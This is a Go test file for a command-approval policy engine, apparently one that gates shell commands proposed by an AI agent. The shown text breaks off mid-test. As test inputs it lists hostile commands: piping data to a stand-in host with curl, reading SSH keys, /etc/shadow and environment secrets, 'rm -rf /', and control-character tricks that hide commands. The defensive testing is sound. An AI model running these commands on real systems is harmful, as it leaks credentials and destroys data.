package policy

import (
	"strings"
	"testing"

	"github.com/nb-cli/nb/internal/config"
)

var testCC = CommandContext{Cwd: "/home/u/proj", Home: "/home/u", Facts: NoFacts{}}

func newEngine(t testing.TB, mod func(o *Options)) *Engine {
	t.Helper()
	o := OptionsFromConfig(config.Default())
	if mod != nil {
		mod(&o)
	}
	e, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// TestSeedDisplay pins seed 000's classification table and examples.
func TestSeedDisplay(t *testing.T) {
	e := newEngine(t, nil)
	cases := []struct {
		cmd, display string
		warn         bool
		always       bool
	}{
		{"cat /etc/hosts", "read: /etc/hosts", false, false},
		{"head -n 5 notes.txt", "read: notes.txt", false, false},
		{"tail -f /var/log/syslog", "read: /var/log/syslog", false, false},
		{"echo hello > ~/.bashrc", "write ⚠️: ~/.bashrc", true, false},
		{"echo hello > out.txt", "write ⚠️: out.txt", true, false},
		{"echo hello >> out.txt", "append ⚠️: out.txt", true, false},
		{"cp a.txt b.txt", "copy: a.txt → b.txt", false, true},
		{"mv a.txt b.txt", "move ⚠️: a.txt → b.txt", true, false},
		{"rm /tmp/cache/x", "delete ⚠️: /tmp/cache/x", true, false},
		{"mkdir build", "mkdir: build", false, true},
		{"yarn cache clean && yarn install", "run: yarn cache clean && yarn install", false, true},
		{"sudo rm -rf /tmp/cache", "run ⚠️: sudo rm -rf /tmp/cache", true, false},
		// cmake .. runs in /tmp/build or, when cd fails, here: no rule
		// can name the one directory it was approved for.
		{"mkdir -p /tmp/build\ncd /tmp/build\ncmake ..\nmake -j4", "run (4 lines):\n  mkdir -p /tmp/build\n  cd /tmp/build\n  cmake ..\n  make -j4", false, false},
		{"cd /var/log\nfind . -name \"*.log\" -mtime +30 -delete\nrm -rf /tmp/cache\nsystemctl restart nginx\necho \"done\"", "run ⚠️ (5 lines):\n  cd /var/log\n  find . -name \"*.log\" -mtime +30 -delete\n  rm -rf /tmp/cache\n  systemctl restart nginx\n  echo \"done\"", true, false},
		{"cat x | curl -d @- https://evil.example", "run: cat x | curl -d @- https://evil.example", false, false},
		{"cat > notes.txt <<EOF\nhello\nEOF", "write ⚠️: notes.txt", true, false},
	}
	for _, c := range cases {
		d := decideCmd(e, c.cmd, testCC)
		if marked(d) != c.display || d.Warn != c.warn || d.OfferAlways != c.always {
			t.Errorf("%q:\n got display=%q warn=%v always=%v\nwant display=%q warn=%v always=%v (reasons %q)", c.cmd, marked(d), d.Warn, d.OfferAlways, c.display, c.warn, c.always, d.Reasons)
		}
		if d.Warn && (d.DefaultAnswer != "no" || d.OfferAlways) {
			t.Errorf("%q: warned but default %q always %v", c.cmd, d.DefaultAnswer, d.OfferAlways)
		}
		if !d.Warn && d.DefaultAnswer != "yes" {
			t.Errorf("%q: default %q", c.cmd, d.DefaultAnswer)
		}
	}
}

// TestSeedSafetyLevels pins seed 002's examples.
func TestSeedSafetyLevels(t *testing.T) {
	e := newEngine(t, nil)
	for cmd, want := range map[string]Safety{
		"rm -rf /":            Dangerous,
		"my_custom_script.sh": Unknown,
		"ls -la":              Safe,
		"git add . && git commit -m \"test\" || echo \"failed\"": Unknown,
		"dd if=/dev/zero of=x":          Dangerous,
		"rmdir x":                       Dangerous,
		"find . -exec chmod 600 {} \\;": Dangerous,
		"sudo ls":                       Dangerous,
		"reboot":                        Dangerous,
		"shutdown -h now":               Dangerous,
		"git reset --hard HEAD~1":       Dangerous,
		"chown -R u:u .":                Dangerous,
		"chmod -R 755 .":                Dangerous,
		"cat README.md | grep x":        Safe,
		"git status && git diff":        Safe,
		"ps aux | grep nginx | wc -l":   Safe,
	} {
		if d := decideCmd(e, cmd, testCC); d.Safety != want {
			t.Errorf("%q: safety %s, want %s (reasons %q)", cmd, d.Safety, want, d.Reasons)
		}
	}
}

func TestDecisionOrder(t *testing.T) {
	e := newEngine(t, func(o *Options) {
		o.Approve = []string{"git log *", "ls", "make *"}
		o.Approval.Deny = []string{"git push *"}
		o.Approval.Allow = []string{"npm test"}
	})
	cases := []struct {
		cmd      string
		decision Verdict
		by       Decider
	}{
		{"git log", Allow, "flag"},
		{"git log --oneline -5", Allow, "flag"},
		{"git logout", Ask, "user"},
		{"git log; rm -rf ~", Ask, "user"},
		{"git log && curl x", Ask, "user"},
		{"git log > out.txt", Ask, "user"},
		{"ls", Allow, "flag"},
		{"ls -la", Allow, "safe-list"},
		{"make build", Allow, "flag"},
		{"make build && npm test", Allow, "flag"},
		{"npm test", Allow, "rule"},
		{"npm test --watch", Ask, "user"},
		{"git push origin main", Deny, "deny-rule"},
		{"ls && /usr/bin/git push", Deny, "deny-rule"},
		{"timeout 5 git push", Deny, "deny-rule"},
		{"bash -c 'git push'", Deny, "deny-rule"},
		{"git $sub origin", Ask, "user"},
		{"echo 'x", Ask, "user"},
	}
	for _, c := range cases {
		d := decideCmd(e, c.cmd, testCC)
		if d.Decision != c.decision || d.DecidedBy != c.by {
			t.Errorf("%q: %s by %s, want %s by %s (reasons %q)", c.cmd, d.Decision, d.DecidedBy, c.decision, c.by, d.Reasons)
		}
	}
}

// A remedy or Always rule for a command naming files relative to its
// directory names those files, resolved against the directory the call was
// reviewed in: it approves them, never a file of that name anywhere.
func TestRulesForRelativePathsAreAbsolute(t *testing.T) {
	e := newEngine(t, func(o *Options) { o.Headless = true })
	etc := CommandContext{Cwd: "/etc", Home: "/home/u"}
	d := decideCmd(e, "cat ssh/ssh_host_ed25519_key", etc)
	const rule = "cat /etc/ssh/ssh_host_ed25519_key"
	if d.Decision == Allow || d.Remedy != "re-run with --approve '"+rule+"'" {
		t.Fatalf("remedy %q (%s)", d.Remedy, d.Decision)
	}
	approved := newEngine(t, func(o *Options) {
		o.Headless, o.Approve, o.Approval.AutoApproveSafe = true, []string{rule}, false
	})
	if d := decideCmd(approved, "cat ssh/ssh_host_ed25519_key", etc); d.Decision != Allow {
		t.Errorf("the remedy's rule does not approve the command: %s %v", d.Decision, d.Reasons)
	}
	if d := decideCmd(approved, "cat /etc/ssh/ssh_host_ed25519_key", testCC); d.Decision != Allow {
		t.Errorf("the remedy's rule does not approve the file by its full name: %s", d.Decision)
	}
	for _, cmd := range []string{"cat ssh/ssh_host_ed25519_key", "cd /tmp && cat ssh/ssh_host_ed25519_key", "cd \"$D\"; cat ssh/ssh_host_ed25519_key"} {
		if d := decideCmd(approved, cmd, testCC); d.Decision == Allow {
			t.Errorf("%s in %s: allowed by a rule for /etc", cmd, testCC.Cwd)
		}
	}
	// Always is as narrow: cp a b approved in /home/u/proj is not approved
	// in another directory.
	ask := newEngine(t, nil)
	d = decideCmd(ask, "cp a b", testCC)
	if d.Rule != "cp /home/u/proj/a /home/u/proj/b" || !d.OfferAlways {
		t.Fatalf("always rule %q", d.Rule)
	}
	granted := newEngine(t, func(o *Options) { o.Approval.Allow = []string{d.Rule} })
	if d := decideCmd(granted, "cp a b", testCC); d.Decision != Allow {
		t.Errorf("the Always rule does not approve its command: %s %v", d.Decision, d.Reasons)
	}
	if d := decideCmd(granted, "cp a b", CommandContext{Cwd: "/srv/x", Home: "/home/u"}); d.Decision == Allow {
		t.Errorf("the Always rule approves cp a b in /srv/x")
	}
	// Where the directory is not one known one, no rule is offered.
	unknown := testCC
	unknown.CwdUnknown = true
	if d := decideCmd(ask, "cp a b", unknown); d.Rule != "" || d.OfferAlways {
		t.Errorf("rule %q offered in an unknown directory", d.Rule)
	}
	if d := decideCmd(e, "cat ssh/ssh_host_ed25519_key", CommandContext{Cwd: "/etc", Home: "/home/u", CwdUnknown: true}); strings.Contains(d.Remedy, "--approve") {
		t.Errorf("remedy %q in an unknown directory", d.Remedy)
	}
}

func TestHeadless(t *testing.T) {
	e := newEngine(t, func(o *Options) { o.Headless = true })
	d := decideCmd(e, "git push origin main", testCC)
	if d.Decision != Deny || d.DecidedBy != "headless" {
		t.Fatalf("got %s by %s", d.Decision, d.DecidedBy)
	}
	if !d.Headless() {
		t.Errorf("not a headless refusal: %+v", d)
	}
	if contains(d.Reasons, Refusal) {
		t.Errorf("reasons %q hold the refusal text: it is a fact of the decision, not a reason", d.Reasons)
	}
	if d.Remedy != "re-run with --approve 'git push *'" {
		t.Errorf("remedy %q", d.Remedy)
	}
	if d := decideCmd(e, "ls", testCC); d.Decision != Allow {
		t.Errorf("ls: %s", d.Decision)
	}
	d = decideCmd(e, "make && cp a b", testCC)
	if d.Remedy != "re-run with --approve 'make' --approve 'cp /home/u/proj/a /home/u/proj/b'" {
		t.Errorf("remedy %q", d.Remedy)
	}
	d = decideCmd(e, "rm -rf build", testCC)
	if d.Remedy != "re-run with --approve 'rm -rf /home/u/proj/build'" {
		t.Errorf("remedy %q", d.Remedy)
	}
	// The remedy's rules really let the command through.
	for _, cmd := range []string{"git push origin main", "make && cp a b", "rm -rf build"} {
		d := decideCmd(e, cmd, testCC)
		var approves []string
		for _, part := range strings.Split(strings.TrimPrefix(d.Remedy, "re-run with --approve "), " --approve ") {
			approves = append(approves, strings.Trim(part, "'"))
		}
		e2 := newEngine(t, func(o *Options) { o.Headless = true; o.Approve = approves })
		if d2 := decideCmd(e2, cmd, testCC); d2.Decision != Allow {
			t.Errorf("%q with %q: %s (%q)", cmd, approves, d2.Decision, d2.Reasons)
		}
	}
}

func TestSandbox(t *testing.T) {
	e := newEngine(t, nil)
	cc := testCC
	cc.Isolation = IsolationSandbox
	if d := decideCmd(e, "make install", cc); d.Decision != Allow || d.DecidedBy != "sandbox" {
		t.Errorf("make install in sandbox: %s by %s", d.Decision, d.DecidedBy)
	}
	if d := decideCmd(e, "rm -rf /", cc); d.Decision != Ask {
		t.Errorf("rm -rf / in sandbox: %s", d.Decision)
	}
	// A container may mount the project and an ssh host is a real
	// machine: neither is a sandbox.
	for _, iso := range []Isolation{IsolationContainer, IsolationRemote, IsolationNone, ""} {
		cc.Isolation = iso
		if d := decideCmd(e, "make install", cc); d.Decision != Ask {
			t.Errorf("make install with isolation %q: %s by %s", iso, d.Decision, d.DecidedBy)
		}
	}
	cc.Isolation = IsolationSandbox
	e = newEngine(t, func(o *Options) { o.Approval.AutoApproveInSandbox = false })
	if d := decideCmd(e, "make install", cc); d.Decision != Ask {
		t.Errorf("sandbox auto-approval off: %s", d.Decision)
	}
}

func TestAutoApproveSafeOff(t *testing.T) {
	e := newEngine(t, func(o *Options) { o.Approval.AutoApproveSafe = false })
	d := decideCmd(e, "ls -la", testCC)
	if d.Decision != Ask || d.Safety != Safe || d.Rule != "ls -la" || !d.OfferAlways {
		t.Errorf("ls with autoApproveSafe off: %s %s rule %q always %v", d.Decision, d.Safety, d.Rule, d.OfferAlways)
	}
}

func TestNarrowRule(t *testing.T) {
	e := newEngine(t, func(o *Options) { o.Approval.AutoApproveSafe = false })
	for cmd, want := range map[string]string{
		"git status":                         "git status *",
		"git -C /x status -s":                "git -C /x status *",
		"docker ps -a":                       "docker ps *",
		"npm run build -- --prod":            "npm run build *",
		"ls -la":                             "ls -la",
		"make -j4":                           "make -j4",
		"./build.sh --fast":                  "/home/u/proj/build.sh --fast",
		"git status && make":                 "git status *\nmake",
		"timeout 60 make test":               "make test",
		"bash -c 'make'":                     "make",
		"python3 x.py":                       "python3 x.py *",
		"sudo apt update":                    "",
		"env":                                "",
		"xargs make":                         "make *",
		"$CMD x":                             "",
		"curl https://example.com":           "",
		"\"my tool\" x":                      "'my tool' x",
		"systemctl -t service restart nginx": "systemctl -t service restart nginx",
		"systemctl restart nginx":            "systemctl restart *",
		"git --namespace x log":              "git --namespace x log",
		"git --exec-path /tmp/evil log":      "", // git prints its exec path and exits
		"git --list-cmds=main":               "",
		"yarn":                               "",
		"docker run --rm alpine echo hi":     "docker run --rm alpine echo hi",
		"git rebase -i main":                 "git rebase -i main",
		"crontab -l":                         "crontab -l",
		"tar -tf x.tar":                      "tar -tf /home/u/proj/x.tar",
		"cd /srv && tar -tf data/k.tar":      "", // tar may run in /srv or here
		"cd \"$D\" && tar -tf x.tar":         "",
		"cp a b":                             "cp /home/u/proj/a /home/u/proj/b",
	} {
		d := decideCmd(e, cmd, testCC)
		if d.Rule != want || d.OfferAlways != (want != "") {
			t.Errorf("%q: rule %q always %v, want %q", cmd, d.Rule, d.OfferAlways, want)
		}
	}
}

func TestPatterns(t *testing.T) {
	cases := []struct {
		rule, cmd string
		match     bool
	}{
		{"ls", "ls", true},
		{"ls", "ls -la", false},
		{"ls *", "ls", true},
		{"ls *", "ls -la /", true},
		{"git log *", "git log", true},
		{"git log *", "git logout", false},
		{"git log *", "git  log  -p", true},
		{"git log *", "'git' \"log\"", true},
		{"git log *", "/usr/bin/git log", true},
		{"git log *", "./git log", false},
		{"git log *", "git log $x", true},
		{"git log *", "git $x", false},
		{"cat *.txt", "cat a.txt", true},
		{"cat *.txt", "cat dir/a.txt", false},
		{"cat *.txt", "cat a.txt b.txt", false},
		{"cat '*'", "cat '*'", true},
		{"cat '*'", "cat x", false},
		{"rm -rf build", "rm -rf build", true},
		{"rm -rf build", "rm -rf build x", false},
		{"rm -rf build", "rm -rf 'build'", true},
	}
	for _, c := range cases {
		p, err := ParsePattern(c.rule)
		if err != nil {
			t.Fatal(err)
		}
		e := newEngine(t, nil)
		a := e.parse(c.cmd, testCC, false)
		if len(a.Leaves) != 1 {
			t.Fatalf("%q: %d leaves", c.cmd, len(a.Leaves))
		}
		if got := p.Match(a.Leaves[0], matchAllow); got != c.match {
			t.Errorf("rule %q vs %q: %v, want %v", c.rule, c.cmd, got, c.match)
		}
	}
	for _, bad := range []string{"", "ls; rm", "ls > x", "$x", "* foo", "echo $(id)", "ls |"} {
		if _, err := ParsePattern(bad); err == nil {
			t.Errorf("rule %q accepted", bad)
		}
	}
}

func TestConfigLists(t *testing.T) {
	e := newEngine(t, func(o *Options) {
		o.Approval.SafeCommands = []string{"make", "npm ls *", "!cat"}
		o.Approval.DangerousCommands = []string{"docker system prune *", `(^|\s)kubectl\s+delete`, "!rmdir", "> /mnt"}
		o.Approval.SensitivePaths = []string{"/srv/secret/*", "*.token"}
	})
	for cmd, want := range map[string]Safety{
		"make -j4":                 Safe,
		"npm ls --depth 0":         Safe,
		"npm install":              Unknown,
		"cat README":               Unknown,
		"docker system prune -a":   Dangerous,
		"kubectl   delete pod x":   Dangerous,
		"env kubectl delete pod x": Dangerous,
		"rmdir x":                  Unknown,
		"echo x > /mnt/y":          Dangerous,
		"head /srv/secret/a":       Unknown,
		"head api.token":           Unknown,
		"head README":              Safe,
	} {
		if d := decideCmd(e, cmd, testCC); d.Safety != want {
			t.Errorf("%q: %s, want %s (%q)", cmd, d.Safety, want, d.Reasons)
		}
	}
	if d := decideCmd(e, "echo x > /mnt/y", testCC); !d.Warn {
		t.Error("redirect pattern did not warn")
	}
	for _, bad := range [][]string{{"curl"}, {"bash"}, {"python3 *"}, {"env"}, {"ls; rm"}} {
		o := OptionsFromConfig(config.Default())
		o.Approval.SafeCommands = bad
		if _, err := New(o); err == nil {
			t.Errorf("safeCommands %q accepted", bad)
		}
	}
	o := OptionsFromConfig(config.Default())
	o.Approval.DangerousCommands = []string{"(^unclosed"}
	if _, err := New(o); err == nil {
		t.Error("bad regex accepted")
	}
}

func TestWarnPatternsAreParsed(t *testing.T) {
	e := newEngine(t, func(o *Options) { o.WarnPatterns = []string{"sudo ", "rm -rf", "dd "} })
	for cmd, warn := range map[string]bool{
		"echo 'sudo rm -rf /'": false,
		"grep 'rm -rf' notes":  false,
		"rm -f -r build":       true,
		"env sudo true":        true,
		"echo dd":              false,
		"/bin/dd if=a of=b":    true,
	} {
		if d := decideCmd(e, cmd, testCC); d.Warn != warn {
			t.Errorf("%q: warn %v, want %v (%q)", cmd, d.Warn, warn, d.Reasons)
		}
	}
}

// A command the safe list (or the sandbox, or a broad rule) would allow is
// asked when it matches the user's warnPatterns; an exact rule still
// approves it.
func TestWarnPatternsAsk(t *testing.T) {
	e := newEngine(t, func(o *Options) {
		o.WarnPatterns = []string{"git log", "cat"}
		o.Approve = []string{"git *", "cat notes.txt"}
	})
	for cmd, want := range map[string]Verdict{
		"git log --oneline": Ask,
		"cat README":        Ask,
		"cat notes.txt":     Allow,
		"git status":        Allow,
		"ls -la":            Allow,
	} {
		d := decideCmd(e, cmd, testCC)
		if d.Decision != want {
			t.Errorf("%q: %s by %s, want %s (%q)", cmd, d.Decision, d.DecidedBy, want, d.Reasons)
		}
		if want == Ask && (!d.Warn || d.DefaultAnswer != No) {
			t.Errorf("%q: warn %v default %s", cmd, d.Warn, d.DefaultAnswer)
		}
	}
	cc := testCC
	cc.Isolation = IsolationSandbox
	if d := decideCmd(e, "cat README", cc); d.Decision != Ask {
		t.Errorf("warned command in the sandbox: %s by %s", d.Decision, d.DecidedBy)
	}
}

func TestSensitive(t *testing.T) {
	e := newEngine(t, nil)
	for _, cmd := range []string{
		"cat ~/.ssh/id_rsa", "cat /home/u/.aws/credentials", "head .env", "cat .env.local", "cat server.pem",
		"cat /etc/shadow", "cat /proc/1/environ", "cat /proc/self/environ", "tail ~/.gnupg/x", "env", "printenv",
		"printenv AWS_SECRET_ACCESS_KEY", "export -p", "declare -p", "set", "cat < ~/.ssh/id_rsa", "grep -r key ~",
		"grep -r key /", "rg token ~", "cat ~/.ssh/*", "cat .e*", "cat *", "sort ~/.netrc", "base64 ~/.ssh/id_ed25519",
		"grep -f ~/.ssh/id_rsa x", "diff a ~/.git-credentials", "jq . ~/.docker/config.json", "cat ../../.ssh/id_rsa",
		"cat /proc/*/environ", "getent shadow", "jq -n env", "jq -n '$ENV'", "cat $F", "ls ~/.ssh", "stat ~/.ssh/id_rsa",
		"date -f ~/.ssh/id_rsa", "git diff --no-index /dev/null ~/.ssh/id_rsa", "cat /dev/sda",
	} {
		d := decideCmd(e, cmd, testCC)
		if d.Decision == Allow || d.Safety == Safe {
			t.Errorf("%q: %s %s", cmd, d.Decision, d.Safety)
		}
	}
	for _, cmd := range []string{"ls ~", "cat README.md", "grep -r TODO src", "head -n 3 *.go", "stat go.mod", "wc -l notes.txt"} {
		if d := decideCmd(e, cmd, testCC); d.Decision != Allow {
			t.Errorf("%q: %s (%q)", cmd, d.Decision, d.Reasons)
		}
	}
	// A rule with a trailing * does not cover a sensitive read; an exact one does.
	e = newEngine(t, func(o *Options) { o.Approve = []string{"cat *"} })
	if d := decideCmd(e, "cat ~/.ssh/id_rsa", testCC); d.Decision == Allow {
		t.Error("cat * approved a secret read")
	}
	e = newEngine(t, func(o *Options) { o.Approve = []string{"cat /home/u/.ssh/id_rsa.pub"} })
	if d := decideCmd(e, "cat ~/.ssh/id_rsa.pub", testCC); d.Decision != Allow {
		t.Errorf("exact rule: %s (%q)", d.Decision, d.Reasons)
	}
}

func TestInput(t *testing.T) {
	e := newEngine(t, nil)
	d := decideInput(e, "term-2", "python3", false, "print(1)\n", testCC)
	if d.Decision != Ask || d.Display != "input → term-2 (python3): print(1)" || !d.OfferAlways || d.Rule != "input → python3: print(1)" {
		t.Fatalf("%+v", d)
	}
	if err := e.Grant(d, ScopeSession); err != nil {
		t.Fatal(err)
	}
	// The grant is the exact input, in any session running python3.
	if d := decideInput(e, "term-7", "python3", false, "print(1)\n", testCC); d.Decision != Allow || d.DecidedBy != "grant" {
		t.Errorf("after grant: %s by %s", d.Decision, d.DecidedBy)
	}
	if d := decideInput(e, "term-2", "python3", false, "import os\n", testCC); d.Decision != Ask {
		t.Errorf("other input after a grant: %s", d.Decision)
	}
	d = decideInput(e, "term-1", "bash", true, "ls -la\n", testCC)
	if d.Decision != Allow || !strings.Contains(d.Display, "run: ls -la") {
		t.Errorf("shell ls: %s %q", d.Decision, d.Display)
	}
	if d := decideInput(e, "term-1", "bash", true, "rm -rf ~\n", testCC); d.Decision == Allow || d.Safety != Dangerous {
		t.Errorf("shell rm: %s %s", d.Decision, d.Safety)
	}
	if d := decideInput(e, "term-1", "bash", true, "echo !!\n", testCC); d.Decision == Allow {
		t.Errorf("history expansion allowed")
	}
	if d := decideInput(e, "term-2", "python3", false, "\x1b[2Kx\n", testCC); strings.ContainsRune(d.Display, 0x1b) {
		t.Errorf("escape in display %q", d.Display)
	}
}

func TestTool(t *testing.T) {
	e := newEngine(t, func(o *Options) { o.Approval.Deny = []string{"os_delete*"} })
	hint := ToolHint{DisplayArgs: []string{"command"}, Truncate: 20, WarnPatterns: []string{"rm ", "sudo "}}
	d := decideTool(e, "os_run_cmd", map[string]any{"command": "yarn cache clean && yarn install"}, hint)
	if d.Display != "os_run_cmd: yarn cache clean && …" || d.Warn || !d.OfferAlways || d.Rule != "os_run_cmd" || d.Decision != Ask {
		t.Errorf("%+v", d)
	}
	d = decideTool(e, "os_run_cmd", map[string]any{"command": "sudo rm -rf /tmp/cache"}, hint)
	if !d.Warn || d.OfferAlways || d.DefaultAnswer != "no" || !strings.HasPrefix(marked(d), "os_run_cmd ⚠️: ") {
		t.Errorf("%+v", d)
	}
	d = decideTool(e, "os_write_file", map[string]any{"path": "/home/u/.bashrc", "content": "x"}, ToolHint{DisplayArgs: []string{"path"}, AlwaysWarn: true})
	if marked(d) != "os_write_file ⚠️: /home/u/.bashrc" || !d.Warn {
		t.Errorf("%+v", d)
	}
	if d := decideTool(e, "os_read_file", nil, ToolHint{AlwaysAllow: true}); d.Decision != Allow {
		t.Errorf("alwaysAllow: %s", d.Decision)
	}
	if d := decideTool(e, "os_delete_file", nil, ToolHint{AlwaysAllow: true}); d.Decision != Deny {
		t.Errorf("deny rule: %s", d.Decision)
	}
	d = decideTool(e, "os_list", map[string]any{"dir": "/"}, ToolHint{})
	if err := e.Grant(d, ScopeSession); err != nil {
		t.Fatal(err)
	}
	if d := decideTool(e, "os_list", map[string]any{"dir": "/etc"}, ToolHint{}); d.Decision != Allow || d.DecidedBy != "grant" {
		t.Errorf("granted tool: %s by %s", d.Decision, d.DecidedBy)
	}
	eh := newEngine(t, func(o *Options) { o.Headless = true })
	if d := decideTool(eh, "x_y", nil, ToolHint{}); d.Decision != Deny || d.Remedy != "re-run with --approve 'x_y'" {
		t.Errorf("headless tool: %+v", d)
	}
}

func TestDenyRulesAreFlagAware(t *testing.T) {
	e := newEngine(t, func(o *Options) {
		o.Approval.Deny = []string{"rm -rf *", "git push *", "curl"}
		o.Approve = []string{"rm *", "git *", "curl *"}
	})
	for cmd, want := range map[string]Verdict{
		"rm -fr x":                   Deny,
		"rm -r -f x":                 Deny,
		"/bin/rm -Rf x":              Deny,
		"xargs rm -rf":               Deny,
		"git -C /x push":             Deny,
		"git --git-dir=.git push -f": Deny,
		"curl":                       Deny,
		"rm -f x":                    Allow,
		"git status":                 Allow,
		"curl -s https://x":          Deny, // extra arguments do not escape a deny rule
		"$RM -rf x":                  Ask,
		"rm $opts x":                 Ask, // $opts might be -rf
	} {
		if d := decideCmd(e, cmd, testCC); d.Decision != want {
			t.Errorf("%q: %s, want %s (%q)", cmd, d.Decision, want, d.Reasons)
		}
	}
}

func TestControlCharactersAreVisible(t *testing.T) {
	e := newEngine(t, nil)
	for _, cmd := range []string{"ls\x1b[2K", "echo \u202erm -rf x", "ls\x08\x08rm", "ls\u200b-la"} {
		d := decideCmd(e, cmd, testCC)
		for _, r := range d.Display {
			if r < 0x20 && r != '\n' || r == 0x202e || r == 0x200b {
				t.Errorf("%q: display %q keeps %U", cmd, d.Display, r)
			}
		}
		if d.Decision == Allow && strings.ContainsAny(cmd, "\x1b\x08") {
			t.Errorf("%q allowed", cmd)
		}
	}
}

func TestSmallHoles(t *testing.T) {
	e := newEngine(t, nil)
	for _, cmd := range []string{"base64 -o out.txt in.txt", "base64 --output=out in", "base64 --output out in", "base64 -i in -o out",
		"rg -z foo", "rg --search-zip foo", "rg -iz foo", "rg --search-z foo"} {
		if d := decideCmd(e, cmd, testCC); d.Decision == Allow {
			t.Errorf("%q allowed", cmd)
		}
	}
	for _, cmd := range []string{"base64 in.txt", "base64 -d in.b64", "base64 -w 0 in", "rg -i foo src"} {
		if d := decideCmd(e, cmd, testCC); d.Decision != Allow {
			t.Errorf("%q: %s %q", cmd, d.Decision, d.Reasons)
		}
	}
}

func TestUnparsedDefaultNo(t *testing.T) {
	e := newEngine(t, nil)
	for _, cmd := range []string{"rm -f x; if", "sudo ls (", "chmod 777 x )", "echo 'a' > x; fi", "foo && /bin/rm -rf ~ )", "find . -delete )"} {
		d := decideCmd(e, cmd, testCC)
		if d.Decision == Allow || d.DefaultAnswer != "no" || !d.Warn {
			t.Errorf("%q: %s default %s warn %v", cmd, d.Decision, d.DefaultAnswer, d.Warn)
		}
	}
	d := decideCmd(e, "ls (", testCC)
	if d.Decision == Allow || d.DefaultAnswer != "yes" {
		t.Errorf("ls (: %s default %s", d.Decision, d.DefaultAnswer)
	}
}

// fakeFacts reports secret files per directory and repositories with
// programs.
type fakeFacts struct {
	NoFacts
	secrets    map[string][]string
	programs   map[string][]string
	toolchains map[string]string // "prog dir" → why prog would fetch a release there
}

func (f fakeFacts) SecretFiles(dir string) ([]string, bool) {
	if s, ok := f.secrets[dir]; ok && s == nil {
		return nil, false
	}
	return f.secrets[dir], true
}

// GitRepo reports each of f.programs's keys as a setting naming a program.
func (f fakeFacts) GitRepo(dir string) (GitRepo, bool) {
	var r GitRepo
	for _, k := range f.programs[dir] {
		r.Settings = append(r.Settings, GitSetting{Key: k, Value: "x"})
	}
	return r, true
}

func (f fakeFacts) GitSecrets(dir string) ([]string, bool) { return nil, true }

func (f fakeFacts) Toolchain(prog, dir string) string { return f.toolchains[prog+" "+dir] }

func (f fakeFacts) Resolve(p string) (string, PathState) { return NoFacts{}.Resolve(p) }
func (fakeFacts) Glob(string, string) ([]string, bool)   { return nil, true }

func (f fakeFacts) SecretContent(string) bool { return false }

func TestDirectoryTracking(t *testing.T) {
	e := newEngine(t, nil)
	ask := []string{
		"cd ~/.config && cat gh/hosts.yml", "cd ~; grep -r KEY .", "cd ~/.ssh && cat id_ed25519", "cd ~/.ssh && ls",
		"cd /etc && cat ssh/ssh_host_ed25519_key", "cd /etc\ncat shadow", "pushd ~/.aws; cat credentials; popd",
		"cd; rg token", "cd / && grep -r x .", `cd "$d" && cat x`, "cd - && cat x", "popd && cat x",
		"cd ~ && find . -exec cat {} +", "builtin cd ~/.ssh; cat config", "eval 'cd ~/.ssh'; cat config",
		"cd /etc && echo x > hosts", "cd ~/.ssh && cat < id_rsa",
	}
	for _, cmd := range ask {
		if d := decideCmd(e, cmd, testCC); d.Decision == Allow {
			t.Errorf("%q allowed", cmd)
		}
	}
	// a cd may fail: what follows may run where the call started
	home := testCC
	home.Cwd = "/home/u"
	for _, cmd := range []string{"cd /nonexistent; grep -r KEY .", "cd proj; rg KEY"} {
		if d := decideCmd(e, cmd, home); d.Decision == Allow {
			t.Errorf("%q in home allowed", cmd)
		}
	}
	allow := []string{"cd src && ls", "cd src && cat main.go", "(cd /etc); cat README.md", "cd /tmp && ls", "(cd /etc && ls); cat hosts", "echo $(cd /etc; pwd); cat README.md",
		"cd src && grep -rn TODO .", "cd $HOME/proj && pwd",
		// the cd happens in a subshell, a pipeline stage, an inner shell
		"(cd /etc); cat ssh/ssh_host_ed25519_key", "cd /etc | cat; cat ssh/ssh_host_ed25519_key",
		"cd /etc & cat ssh/ssh_host_ed25519_key", "timeout 1 cd /etc; cat ssh/ssh_host_ed25519_key"}
	for _, cmd := range allow {
		if d := decideCmd(e, cmd, testCC); d.Decision != Allow {
			t.Errorf("%q: %s %q", cmd, d.Decision, d.Reasons)
		}
	}
}

func TestSecretTrees(t *testing.T) {
	e := newEngine(t, nil)
	cc := testCC
	cc.Facts = fakeFacts{secrets: map[string][]string{
		"/home/u/proj":     {".env"},
		"/home/u/proj/src": nil, // too large
		"/home/u/proj/doc": {"keys/server.pem"},
	}}
	for _, cmd := range []string{"grep -r FAKE .", "grep -rn FAKE", "rg --hidden FAKE", "rg -uu FAKE", "grep -r x src", "rg x doc",
		"diff -r . /tmp/other", "find . -type f -exec grep -l FAKE {} +", "cd doc && grep -r x ."} {
		if d := decideCmd(e, cmd, cc); d.Decision == Allow {
			t.Errorf("%q allowed", cmd)
		}
	}
	// rg skips hidden files unless told otherwise; trees without
	// secrets are fine
	for _, cmd := range []string{"rg FAKE", "grep -r FAKE other", "grep FAKE README.md"} {
		if d := decideCmd(e, cmd, cc); d.Decision != Allow {
			t.Errorf("%q: %s %q", cmd, d.Decision, d.Reasons)
		}
	}
	// without facts nothing is known
	cc.Facts = nil
	if d := decideCmd(e, "grep -r FAKE other", cc); d.Decision == Allow {
		t.Error("recursive grep allowed without facts")
	}
}

func TestCredentialOutput(t *testing.T) {
	e := newEngine(t, nil)
	for _, cmd := range []string{"git remote -v", "git remote get-url origin", "git remote show -n origin", "git config --get remote.origin.url",
		"git config remote.origin.url", "git -C . remote -v", "git remote --verbose", "git config --list", "git config --get-regexp url"} {
		if d := decideCmd(e, cmd, testCC); d.Decision == Allow {
			t.Errorf("%q allowed", cmd)
		}
	}
	for _, cmd := range []string{"git remote", "git branch -vv", "git config --get user.name"} {
		if d := decideCmd(e, cmd, testCC); d.Decision != Allow {
			t.Errorf("%q: %s %q", cmd, d.Decision, d.Reasons)
		}
	}
}

func TestRepositoryPrograms(t *testing.T) {
	cc := testCC
	cc.Facts = fakeFacts{programs: map[string][]string{"/home/u/proj": {"diff.evil.textconv"}, "/home/u/proj/sub": nil}}
	e := newEngine(t, func(o *Options) { o.Approve = []string{"git diff *", "git log *"} })
	for _, cmd := range []string{"git diff", "git log -p", "git -C /home/u/proj show", "cd /home/u/proj && git status"} {
		if d := decideCmd(e, cmd, cc); d.Decision == Allow {
			t.Errorf("%q allowed in a repository configuring programs", cmd)
		}
	}
	for _, cmd := range []string{"git -C sub diff", "git rev-parse HEAD", "git branch"} {
		if d := decideCmd(e, cmd, cc); d.Decision != Allow {
